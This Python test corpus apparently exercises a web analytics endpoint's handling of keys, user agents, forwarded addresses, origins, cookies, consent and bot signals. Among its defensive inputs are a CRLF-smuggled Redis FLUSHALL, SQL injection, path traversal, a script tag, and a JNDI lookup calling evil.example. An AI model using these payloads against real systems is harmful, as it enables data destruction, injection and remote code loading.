"""What a request says about who sends it: properties and keys, user agents, addresses, origins,
cookies, consent and signals: C22, C23, C29, C30, C39, C40, C45, C46 and C47."""

from tests.corpus.case import (
    CHROME,
    Answer,
    Case,
    Request,
    accepted,
    case,
    fault,
    get,
    pageview,
    post,
    refused,
    turned_away,
)

UNKNOWN = fault(401, "unknown_property")
SPEAKS = pageview()  # what an address or an agent is tried with
GOOGLEBOT = b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
PIXEL = (
    b"/track/it?trackr_event_type=trackr_pageloaded_event&config_account=$KEY"
    b"&hostname=shop.example&path=/p&event_id=$ID&config_cookies_v_visitor=$VISITOR"
)


def of(place: str, **fields: object) -> dict[str, object]:
    return pageview(property=f"${place}", **fields)


def with_headers(*headers: bytes) -> Request:
    sent = post(SPEAKS)
    return Request(headers=(*sent.headers, *headers), body=sent.body)


CASES: list[Case] = [
    *(
        case(row, name, post(pageview(property=key)), UNKNOWN)
        for row, name, key in (
            ("C22", "unknown", "AK-22222222"),
            ("C22", "a blank behind it", "$KEY "),
            ("C22", "a blank before it", " $KEY"),
            ("C22", "a line's end behind it", "$KEY\n"),
            ("C22", "a homoglyph", "АK-22222222"),
            ("C22", "full width", "ＡＫ－２２２２２２２２"),
            ("C22", "half of it", "AK-"),
            ("C22", "an API key", "ak_0123456789abcdef0123456789abcdef"),
            ("C22", "a retired key", "$RETIRED"),
            ("C22", "a wildcard", "%"),
            ("C23", "braces", "{1:1}"),
            ("C23", "a hash tag", "AK-{x}"),
            ("C23", "a star", "*"),
            ("C23", "a colon", "AK:1"),
            ("C23", "CRLF", "AK-\r\nFLUSHALL\r\n"),
            ("C23", "10 kB", "a" * 10_000),
            ("C23", "NUL", "AK-NULL\x00"),
            ("C23", "a surrogate", "AK-\ud800"),
            ("C23", "a number", 5),
            ("C23", "an object", {"select": 1}),
            ("C23", "a list", ["$KEY"]),
            ("C23", "true", True),
            ("C23", "empty", ""),
            ("C23", "SQL", "' OR 1=1 --"),
            ("C23", "a path", "../../etc"),
        )
    ),
    case("C22", "no property", post({"name": "x"}), fault(400, "property")),
    case("C22", "a key that was replaced lately", post(of("REPLACED")), accepted()),
    case(
        "C22",
        "two properties",
        post({"property": "$KEY", "events": [of("OTHER")]}),
        Answer(accepted=0, rejected=(("mixed_property", "property"),)),
    ),
    case(
        "C22",
        "an API key of nobody",
        with_headers(b"Authorization: Bearer ak_nonsense"),
        fault(401, "api_key"),
    ),
    case(
        "C22",
        "basic authorization",
        with_headers(b"Authorization: Basic eDp5"),
        fault(401, "api_key"),
    ),
    case(
        "C22",
        "the pixel of nobody",
        get(b"/track/it?config_account=AK-22222222"),
        Answer((200,), "unknown_property"),
    ),
    *(
        case("C29", name, post(SPEAKS, user_agent=agent), accepted())
        for name, agent in {
            "7 kB": b"x" * 7_000,
            "3,500 blanks": b"SmartWatch(" + b" " * 3_500 + b"z",
            "3,500 digits": b";A Build HuaweiA" + b"4" * 3_500,
            "brackets": b"Mozilla/5.0 " + b"(" * 3_500,
            "script": b"<script>alert(1)</script>",
            "jndi": b"${jndi:ldap://evil.example/a}",
        }.items()
    ),
    case("C29", "64 kB", post(SPEAKS, user_agent=b"x" * 65_536), turned_away(400, 431)),
    case("C30", "missing", post(SPEAKS, user_agent=None), accepted(browser="Unknown")),
    case("C30", "empty", post(SPEAKS, user_agent=b""), accepted(browser="Unknown")),
    case("C30", "a hyphen", post(SPEAKS, user_agent=b"-"), accepted(browser="Unknown")),
    case(
        "C30",
        "bytes",
        post(SPEAKS, user_agent=bytes(range(0x80, 0x100))),
        accepted(browser="Unknown"),
    ),
    # 203.0.113.7 is excluded in $KEY; without a configured proxy the header says nothing.
    *(
        case("C39", f"{name} from a stranger", with_headers(header), accepted())
        for name, header in {
            "X-Forwarded-For": b"X-Forwarded-For: 203.0.113.7",
            "X-Real-IP": b"X-Real-IP: 203.0.113.7",
            "Forwarded": b"Forwarded: for=203.0.113.7",
            "CF-Connecting-IP": b"CF-Connecting-IP: 203.0.113.7",
            "True-Client-IP": b"True-Client-IP: 203.0.113.7",
        }.items()
    ),
    *(
        case(
            "C39",
            f"{name} by a proxy",
            with_headers(b"X-Forwarded-For: " + hops),
            refused("excluded_address"),
            proxied=True,
        )
        for name, hops in {
            "one hop": b"203.0.113.7",
            "the last hop": b"198.51.100.1, 203.0.113.7",
            "a thousand hops": b", ".join([b"198.51.100.1"] * 300) + b", 203.0.113.7",
            "a port": b"203.0.113.7:4711",
            "a mapped address": b"::ffff:203.0.113.7",
            "behind another proxy": b"203.0.113.7, 127.0.0.1",
        }.items()
    ),
    *(
        case(
            "C39",
            f"{name} by a proxy",
            with_headers(b"X-Forwarded-For: " + hops),
            accepted(),
            proxied=True,
        )
        for name, hops in {
            "forged before the last hop": b"203.0.113.7, 198.51.100.1",
            "unknown": b"unknown",
            "garbage": b"203.0.113.7; drop table",
            "a zone": b"fe80::1%eth0",
            "a private mapped address": b"::ffff:10.0.0.1",
            "obfuscated": b"_hidden",
            "nothing": b"",
            "commas": b",,,,",
            "out of range": b"203.0.113.700",
            "octal": b"0313.0.0161.07",
        }.items()
    ),
    case(
        "C39",
        "Forwarded by a proxy",
        with_headers(b"Forwarded: for=203.0.113.7"),
        accepted(),
        proxied=True,
    ),
    *(
        case(
            "C40",
            f"{origin.decode() or 'no Origin'}",
            post(SPEAKS, origin=origin or None),
            Answer(
                accepted=1,
                headers={"access-control-allow-origin": "*"},
                lacks=("access-control-allow-credentials", "set-cookie"),
            ),
        )
        for origin in (
            b"null",
            b"https://evil.example",
            b"",
            b"https://SHOP.EXAMPLE",
            b"garbage",
            b"https://good.example.evil.example",
        )
    ),
    *(
        case(
            "C40",
            f"strict: {origin.decode() or 'no Origin'}",
            post(of("STRICT"), origin=origin or None),
            refused("origin"),
        )
        for origin in (
            b"null",
            b"https://evil.example",
            b"",
            b"https://shop.example.evil.example",
            b"https://evilshop.example",
            b"https://shop.example@evil.example",
            b"garbage",
            b"https://shop.example, https://evil.example",
            b"//shop.example",
            b"javascript://shop.example",
        )
    ),
    *(
        case("C40", f"strict: {origin.decode()}", post(of("STRICT"), origin=origin), accepted())
        for origin in (
            b"https://shop.example",
            b"https://SHOP.EXAMPLE",
            b"http://www.shop.example:81",
        )
    ),
    *(
        case(
            "C45",
            name,
            with_headers(b"Cookie: " + cookie),
            Answer(accepted=1, lacks=("set-cookie",)),
        )
        for name, cookie in {
            "7 kB": b"a=" + b"x" * 7_000,
            "200 cookies": b"; ".join(b"c%d=1" % n for n in range(200)),
            "another visitor's": b"trackit_v_visitor=0d5c3f1e-7a0b-4f77-8f65-2f3e0d5c3f1e",
            "a session": b"sessionid=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; csrftoken=b",
            "broken": b';;=;=a;"x',
        }.items()
    ),
    case("C45", "64 kB", with_headers(b"Cookie: a=" + b"x" * 65_536), turned_away(400, 431)),
    *(
        case(
            "C46",
            f"{place.lower()}: {name}",
            Request(headers=(*Request.headers, *headers), body=post(of(place, **fields)).body),
            answer,
        )
        for place, name, headers, fields, answer in (
            ("REQUIRED", "no answer", (), {}, refused("consent_denied", "consent")),
            ("REQUIRED", "denied", (), {"consent": "denied"}, refused("consent_denied", "consent")),
            ("REQUIRED", "granted", (), {"consent": "granted"}, accepted()),
            ("REQUIRED", "cookieless", (), {"consent": "cookieless"}, accepted()),
            ("REQUIRED", "true", (), {"consent": True}, refused("consent_denied", "consent")),
            ("REQUIRED", "null", (), {"consent": None}, refused("consent_denied", "consent")),
            (
                "REQUIRED",
                "a list",
                (),
                {"consent": ["granted"]},
                refused("consent_denied", "consent"),
            ),
            ("REQUIRED", "an object", (), {"consent": {}}, refused("consent_denied", "consent")),
            ("REQUIRED", "granted, with DNT", (b"DNT: 1",), {"consent": "granted"}, accepted()),
            ("KEY", "denied", (), {"consent": "denied"}, refused("consent_denied", "consent")),
            ("KEY", "granted", (), {"consent": "granted"}, accepted()),
            ("KEY", "DNT", (b"DNT: 1",), {"user": "alice"}, accepted(user="")),
            ("KEY", "GPC", (b"Sec-GPC: 1",), {"user": "alice"}, accepted(user="")),
            ("KEY", "DNT of 0", (b"DNT: 0",), {"user": "alice"}, accepted(user="alice")),
            (
                "KEY",
                "GPC of nonsense",
                (b"Sec-GPC: yes",),
                {"user": "alice"},
                accepted(user="alice"),
            ),
            ("DROPPING", "DNT", (b"DNT: 1",), {}, refused("dnt")),
            ("DROPPING", "GPC", (b"Sec-GPC: 1",), {}, refused("gpc")),
            ("DROPPING", "both", (b"DNT: 1", b"Sec-GPC: 1"), {}, refused("gpc")),
            ("DROPPING", "neither", (), {}, accepted()),
            (
                "DROPPING",
                "a payload that is wrong, too",
                (b"DNT: 1",),
                {"scroll": "x"},
                refused("dnt"),
            ),
            ("IGNORING", "DNT", (b"DNT: 1",), {"user": "alice"}, accepted(user="alice")),
            ("COOKIELESS", "GPC", (b"Sec-GPC: 1",), {}, accepted()),
            (
                "COOKIELESS",
                "denied",
                (),
                {"consent": "denied"},
                refused("consent_denied", "consent"),
            ),
        )
    ),
    case(
        "C46",
        "the pixel with DNT",
        get(PIXEL.replace(b"$KEY", b"$DROPPING"), dnt=b"1"),
        Answer((200,), "dnt"),
    ),
    *(
        case("C47", name, post(SPEAKS, user_agent=agent), accepted(bot="t"))
        for name, agent in {
            "Googlebot": GOOGLEBOT,
            "GPTBot": CHROME + b"; compatible; GPTBot/1.0",
            "curl": b"curl/8.5.0",
            "headless": CHROME.replace(b"Chrome", b"HeadlessChrome"),
        }.items()
    ),
    *(
        case("C47", header.decode(), with_headers(header), accepted(bot="t"))
        for header in (
            b"Sec-Purpose: prefetch",
            b"Sec-Purpose: prefetch;prerender",
            b"X-Moz: prefetch",
            b"Purpose: prefetch",
        )
    ),
    case("C47", "another purpose", with_headers(b"Sec-Purpose: none"), accepted(bot="f")),
    case(
        "C47", "a bot's pixel", get(PIXEL, user_agent=GOOGLEBOT), Answer((200,), kept={"bot": "t"})
    ),
]
